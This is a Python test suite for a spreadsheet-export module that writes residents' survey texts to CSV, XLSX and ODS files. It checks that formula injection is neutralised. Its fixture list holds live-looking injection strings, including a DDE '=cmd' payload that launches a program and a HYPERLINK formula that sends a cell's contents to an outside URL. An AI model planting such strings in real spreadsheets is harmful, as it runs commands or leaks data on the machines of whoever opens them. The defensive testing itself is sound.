"""Tables as files: an analyst reads them back unchanged, and opening one starts nothing, whatever residents typed."""

import csv
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import numpy as np
import odfdo
import openpyxl
import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as some
from openpyxl.utils.escape import unescape

from app.cells import guarded, unguarded
from app.findings import sheets
from app.findings.sheets import write_table

COLUMNS = ("id", "text")
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1,"klik")',
    "+31 78 770 4905",
    "-2+3",
    "- meer groen\n- minder auto's",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n@SUM(A1)",
    " \u00a0=1+1",
    "\ufeff=1+1",
    "\u200f=1+1",
    "'=1+1",
    "＝１＋１",
    "＋３１",
    "－5",
    "＠SUM(A1)",
    "wonen;=1+1;@x",
    "eerste regel\r\n=1+1",
    '"; =1+1',
    "{=SUM(A1)}",
    "",
    "–",
    "None",
    "'s avonds is het donker, 't is niet fijn",
    'Zij zei: "te laat", en ging',
    "Sokak çok karanlık; ışık istiyoruz İ",
    "Źle oświetlone ulice, żółć",
    "الشارع مظلم جداً ولا أشعر بالأمان =1+1",
    "=الشارع",
    "نص 123 \u202eabc",
    "👩‍👩‍👧‍👦 🇳🇱 meer groen 🌳",
    "http://example.org/a?b=c",
    "0123",
    "1-2",
    "_x000A_ en _x0041_",
    "<script>alert(1)</script> & meer",
]
BROKEN = {
    "a\x00b": "a\ufffdb",
    "\x1b[31mrood": "\ufffd[31mrood",
    "half \ud83d emoji": "half \ufffd emoji",
    "\ufffe": "\ufffd",
    "a\x0b=1": "a\ufffd=1",
}


def one_kind_of_break(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


def written(folder: Path, format: Any, rows: Any, columns: Any = COLUMNS, *, title: str = "Uitspraken", notes: Any = ()) -> Path:  # noqa: A002  # as write_table names it
    path = folder / f"tabel.{format}"
    write_table(path, columns, rows, format=format, title=title, notes=notes)
    return path


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, strict=True))


def xlsx_rows(path: Path, sheet: int = 0) -> list[list[Any]]:
    book = openpyxl.load_workbook(path)
    rows = book.worksheets[sheet].iter_rows()
    return [[unescape(cell.value) if isinstance(cell.value, str) else cell.value for cell in row] for row in rows]


def ods_rows(path: Path, sheet: int = 0) -> list[list[Any]]:
    return [list(row) for row in odfdo.Document(path).body.tables[sheet].get_values()]


def ods_cells(path: Path) -> list[ET.Element]:
    """The cells as any program finds them that unzips the file and reads its XML."""
    with zipfile.ZipFile(path) as parts:
        content = ET.fromstring(parts.read("content.xml"))  # noqa: S314  # our own file
    return [cell for cell in content.iter() if cell.tag.endswith("}table-cell")]


def ods_attributes(cell: ET.Element) -> dict[str, str]:
    return {name.partition("}")[2]: value for name, value in cell.attrib.items()}


READ = {"csv": csv_rows, "xlsx": xlsx_rows, "ods": ods_rows}


def cells_of(path: Path) -> Iterator[Any]:
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            yield from row


def split_as_a_dutch_spreadsheet(path: Path) -> list[str]:
    """Without regard for quotes: what a reader that expects semicolons makes of it, at its worst."""
    text = path.read_text(encoding="utf-8-sig")
    return [cell for line in text.splitlines() for part in line.split(";") for cell in part.split("\t")]


# CSV.


def test_a_csv_reads_back_as_what_residents_typed(tmp_path: Path) -> None:
    path = written(tmp_path, "csv", list(enumerate(HOSTILE)))
    rows = csv_rows(path)
    assert rows[0] == ["id", "text"]
    assert [(int(number), unguarded(text)) for number, text in rows[1:]] == [
        (at, one_kind_of_break(text)) for at, text in enumerate(HOSTILE)
    ]


def test_no_cell_of_a_csv_starts_as_a_formula_not_even_where_semicolons_split_it(tmp_path: Path) -> None:
    path = written(tmp_path, "csv", [(text, text) for text in HOSTILE])
    cells = [cell for row in csv_rows(path) for cell in row]
    starts = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")
    assert [cell for cell in cells if cell.startswith(starts) or cell.lstrip("\u00a0\ufeff\u200f \t\n").startswith(starts)] == []
    assert [cell for cell in split_as_a_dutch_spreadsheet(path) if cell.lstrip(' \u00a0"').startswith(("=", "@"))] == []


def test_ordinary_dutch_gets_no_apostrophe(tmp_path: Path) -> None:
    plain = ["'s avonds", "a-b", "1 + 1 = 2", "mail@example.org", "goed; beter, best", "(=)", "–"]
    assert [text for _, text in csv_rows(written(tmp_path, "csv", list(enumerate(plain))))[1:]] == plain


def test_pandas_reads_numbers_as_numbers(tmp_path: Path) -> None:
    path = written(tmp_path, "csv", [(1, -5, -0.25, "=x"), (2, 7, 1e-7, "ja")], ("id", "verschil", "share", "text"))
    table = pd.read_csv(path, encoding="utf-8-sig")
    assert list(table.columns) == ["id", "verschil", "share", "text"]
    assert table["verschil"].tolist() == [-5, 7]
    assert table["share"].tolist() == [-0.25, 1e-7]
    assert table["text"].tolist() == ["'=x", "ja"]


def test_a_csv_is_rfc_4180_with_a_mark_for_excel(tmp_path: Path) -> None:
    path = written(tmp_path, "csv", [(1, 'zij zei "ja", en\nging'), (2, "ş")])
    assert path.read_bytes() == b'\xef\xbb\xbfid,text\r\n1,"zij zei ""ja"", en\nging"\r\n2,\xc5\x9f\r\n'


@given(some.text(alphabet="=+-@＝＠﹣'\t\n; ab\u200f\u00a0\"", max_size=12))
@example("'\n=")
@example("''=;'-\t'")
def test_the_apostrophe_can_always_be_taken_away_again(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not guarded(text).lstrip(" \u00a0\u200f").startswith(("=", "+", "-", "@", "＝", "＠", "﹣", "\t"))


# XLSX.


def test_an_xlsx_holds_what_residents_typed_and_no_formula_and_no_link(tmp_path: Path) -> None:
    path = written(tmp_path, "xlsx", [(at, text) for at, text in enumerate(HOSTILE)], notes=["=1+1", "n = 200"], title="=A1: [alles]")
    rows = xlsx_rows(path)
    assert rows[0] == ["id", "text"]
    assert [text or "" for _, text in rows[1:]] == [one_kind_of_break(text) for text in HOSTILE]
    assert [cell.coordinate for cell in cells_of(path) if cell.data_type == "f" or cell.hyperlink] == []
    with zipfile.ZipFile(path) as parts:
        sheets_text = "".join(parts.read(name).decode() for name in parts.namelist() if name.endswith((".xml", ".rels")))
    assert ("<f>" in sheets_text, "hyperlink" in sheets_text.replace("HYPERLINK", "")) == (False, False)


def test_a_text_that_looks_like_a_formula_stays_a_text_when_someone_edits_its_cell(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(written(tmp_path, "xlsx", [(1, "=1+1"), (2, "groen")]))
    assert [bool(book.worksheets[0].cell(row, 2).quotePrefix) for row in (2, 3)] == [True, False]


@pytest.mark.parametrize("format_", sheets.FORMATS)
def test_characters_that_no_file_can_hold_are_marked_and_stop_nothing(tmp_path: Path, format_: str) -> None:
    read = READ[format_](written(tmp_path, format_, list(enumerate(BROKEN))))
    assert [text for _, text in read[1:]] == list(BROKEN.values())


def test_a_text_longer_than_a_cell_is_cut_with_a_note_and_whole_in_the_csv(tmp_path: Path) -> None:
    long, emoji, fits = "x" * 40_000, "🌳" * 20_000, "y" * 32_767
    cut, trees, whole = (row[1] for row in xlsx_rows(written(tmp_path, "xlsx", [(1, long), (2, emoji), (3, fits)]))[1:])
    note = " [… afgekapt: deze tekst heeft {} tekens, een cel houdt er 32767. De hele tekst staat in de CSV.]"
    assert cut == "x" * (32_767 - len(note.format(40_000))) + note.format(40_000)
    assert trees == "🌳" * ((32_767 - len(note.format(20_000))) // 2) + note.format(20_000)
    assert len(trees.encode("utf-16-le")) <= 2 * 32_767
    assert whole == fits
    assert csv_rows(written(tmp_path, "csv", [(1, long)]))[1] == ["1", long]


def test_the_office_sees_a_fixed_bold_header_wide_columns_and_arabic_from_the_right(tmp_path: Path) -> None:
    path = written(tmp_path, "xlsx", [(1, "الشارع مظلم"), (2, "Meer groen in de straat"), (3, "regel\nregel"), (4, "w" * 300)])
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B5"
    assert [cell.font.b for cell in sheet[1]] == [True, True]
    assert [sheet.cell(row, 2).alignment.readingOrder for row in (2, 3)] == [2, 0]
    assert [bool(sheet.cell(row, 2).alignment.wrap_text) for row in (3, 4, 5)] == [False, True, True]
    assert 60 <= sheet.column_dimensions["B"].width <= 65


def test_the_second_sheet_tells_what_the_figures_rest_on(tmp_path: Path) -> None:
    notes = ["n = 230 uitspraken van 201 bewoners", "Drempel: 10 bewoners", "– betekent: niet getoond"]
    path = written(
        tmp_path, "xlsx", [("afval", 31), ("overig (klein aantal)", None)], ("theme", "n"), title="Thema's: Dordt West", notes=notes
    )
    assert openpyxl.load_workbook(path).sheetnames == ["Thema's Dordt West", "Toelichting"]
    assert xlsx_rows(path) == [["theme", "n"], ["afval", 31], ["overig (klein aantal)", "–"]]
    assert xlsx_rows(path, 1) == [[line] for line in ["Thema's: Dordt West", *notes]]


@pytest.mark.parametrize(
    ("title", "name"),
    [("Toelichting", "Tabel"), ("[]:*?/\\", "Tabel"), ("'x'", "x"), ("history", "Tabel"), ("a" * 40, "a" * 31), ("🌳" * 40, "🌳" * 15)],
)
def test_any_title_makes_a_sheet_that_opens(tmp_path: Path, title: str, name: str) -> None:
    assert openpyxl.load_workbook(written(tmp_path, "xlsx", [], title=title)).sheetnames == [name, "Toelichting"]


def test_the_same_table_gives_the_same_bytes(tmp_path: Path) -> None:
    rows = [(at, text) for at, text in enumerate(HOSTILE)]
    for format_ in sheets.FORMATS:
        assert (
            written(tmp_path, format_, iter(rows), notes=["n = 3"]).read_bytes()
            == written(tmp_path, format_, rows, notes=["n = 3"]).read_bytes()
        )


# ODS.


def test_an_ods_holds_what_residents_typed_and_no_formula_and_no_link(tmp_path: Path) -> None:
    blanks = ["  twee   blanco's ", " een", "tab\there", " "]
    path = written(tmp_path, "ods", list(enumerate([*HOSTILE, *blanks])), notes=["=1+1", "n = 200"], title="=A1: [alles]")
    rows = ods_rows(path)
    assert rows[0] == ["id", "text"]
    assert [text or "" for _, text in rows[1:]] == [one_kind_of_break(text) for text in [*HOSTILE, *blanks]]
    assert [each.name for each in odfdo.Document(path).body.tables] == ["=A1 alles", "Toelichting"]
    assert ods_rows(path, 1) == [["=A1: [alles]"], ["=1+1"], ["n = 200"]]
    found = [ods_attributes(cell) for cell in ods_cells(path)]
    assert [each for each in found if "formula" in each or each.get("value-type", "string") not in {"string", "float"}] == []
    with zipfile.ZipFile(path) as parts:
        assert [name for name in parts.namelist() if b"xlink:href" in parts.read(name)] == []


def test_an_ods_is_what_the_standard_asks_of_a_package(tmp_path: Path) -> None:
    path = written(tmp_path, "ods", [(1, "groen")])
    with zipfile.ZipFile(path) as parts:
        first, *others = parts.infolist()
        assert (first.filename, first.compress_type, parts.read("mimetype").decode()) == ("mimetype", 0, sheets.FORMATS["ods"])
        named = set(odfdo.Document(path).manifest.get_paths())
        assert {entry.filename for entry in others} == (named - {"/"}) | {"META-INF/manifest.xml"}
        assert {entry.date_time for entry in parts.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        for entry in others:
            ET.fromstring(parts.read(entry))  # noqa: S314  # our own file


def test_the_kind_of_an_ods_cell_is_told_to_any_program(tmp_path: Path) -> None:
    path = written(tmp_path, "ods", [(1.5, "=1+1"), (date(2026, 11, 22), "الشارع"), ("groen", "w " * 50)])
    cells = {"".join(cell.itertext()): ods_attributes(cell) for cell in ods_cells(path)}
    assert (cells["1.5"]["value-type"], cells["1.5"]["value"]) == ("float", "1.5")
    assert cells["2026-11-22"] == {"style-name": "day", "value-type": "date", "date-value": "2026-11-22"}
    looks = {text: cells[text]["style-name"] for text in ("id", "=1+1", "الشارع", "groen")}
    assert looks == {"id": "c1000", "=1+1": "c0001", "الشارع": "c0010", "groen": "c0000"}  # bold, wrapped, right to left, kept as text


@pytest.mark.parametrize("title", ["'s avonds & <laat>", "a.b'c", "Tabel"])
def test_the_filter_of_an_ods_names_its_sheet(tmp_path: Path, title: str) -> None:
    path = written(tmp_path, "ods", [(at, "x") for at in range(3)], [f"c{at}" for at in range(2)], title=title)
    with zipfile.ZipFile(path) as parts:
        content = ET.fromstring(parts.read("content.xml"))  # noqa: S314  # our own file
    (range_,) = [ods_attributes(each)["target-range-address"] for each in content.iter() if each.tag.endswith("}database-range")]
    quoted = "'" + sheets.sheet_name(title).replace("'", "''") + "'"
    assert range_ == f"{quoted}.A1:{quoted}.B4"


# All.


def test_each_kind_of_value_keeps_its_kind(tmp_path: Path) -> None:
    moment = datetime(2026, 11, 22, 14, 3, tzinfo=UTC)
    values = [
        True,
        np.int64(7),
        np.float64(0.5),
        np.bool_(False),
        Decimal("0.10"),
        date(2026, 11, 22),
        moment,
        float("nan"),
        pd.NaT,
        None,
        2**63,
        date(1850, 1, 1),
    ]
    columns = [f"c{at}" for at in range(len(values))]
    days = ["2026-11-22", "2026-11-22T14:03:00+00:00"]
    assert csv_rows(written(tmp_path, "csv", [values], columns))[1] == [
        "1",
        "7",
        "0.5",
        "0",
        "0.10",
        *days,
        "",
        "",
        "–",
        str(2**63),
        "1850-01-01",
    ]
    row = xlsx_rows(written(tmp_path, "xlsx", [values], columns))[1]
    assert row == [1, 7, 0.5, 0, 0.1, datetime(2026, 11, 22), days[1], None, None, "–", str(2**63), "1850-01-01"]  # noqa: DTZ001  # a day, as openpyxl reads it
    row = ods_rows(written(tmp_path, "ods", [values], columns))[1]
    assert row == [1, 7, 0.5, 0, Decimal("0.10"), date(2026, 11, 22), days[1], None, None, "–", str(2**63), "1850-01-01"]


@pytest.mark.parametrize("format_", sheets.FORMATS)
@pytest.mark.parametrize(
    ("rows", "said"),
    [
        ([(1, "a"), (2,)], "row 2 has 1 cells and the table 2 columns"),
        ([(1, "a"), (2, ["lijst"])], "row 2, column text: a cell holds a text, a finite number or a date, not list"),
        ([(float("inf"), "a")], "row 1, column id: a cell holds a text, a finite number or a date, not float inf"),
    ],
)
def test_a_table_that_does_not_fit_leaves_the_old_file_and_no_half_one(tmp_path: Path, format_: str, rows: Any, said: str) -> None:
    path = written(tmp_path, format_, [(1, "oud")])
    old = path.read_bytes()
    with pytest.raises(ValueError, match=said):
        written(tmp_path, format_, rows)
    assert path.read_bytes() == old
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize("format_", sheets.FORMATS)
def test_rows_that_break_off_half_way_leave_nothing(tmp_path: Path, format_: str) -> None:
    def rows() -> Iterator[tuple[int, str]]:
        yield 1, "afval"
        raise ConnectionError("the database went away")

    with pytest.raises(ConnectionError):
        written(tmp_path, format_, rows())
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("columns", [(), ("n", "n"), ("a\x00", "a\x01")])
def test_columns_need_names_of_their_own(tmp_path: Path, columns: tuple[str, ...]) -> None:
    with pytest.raises(ValueError, match="each with a name of its own"):
        written(tmp_path, "csv", [], columns)


def test_an_unknown_format_is_named(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="pdf is not a format of a table: choose csv, xlsx, ods"):
        written(tmp_path, "pdf", [])


def test_more_rows_than_a_sheet_can_hold_is_said_and_csv_offered(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "MOST_ROWS", 3)
    rows = [(at, "x") for at in range(4)]
    for format_ in ("xlsx", "ods"):
        with pytest.raises(ValueError, match="at most 3 rows below its header: choose csv"):
            written(tmp_path, format_, rows)
        assert len(READ[format_](written(tmp_path, format_, rows[:3]))) == 4
    assert len(csv_rows(written(tmp_path, "csv", rows))) == 5


def test_only_its_owner_can_read_an_export(tmp_path: Path) -> None:
    assert written(tmp_path, "csv", []).stat().st_mode & 0o777 == 0o600
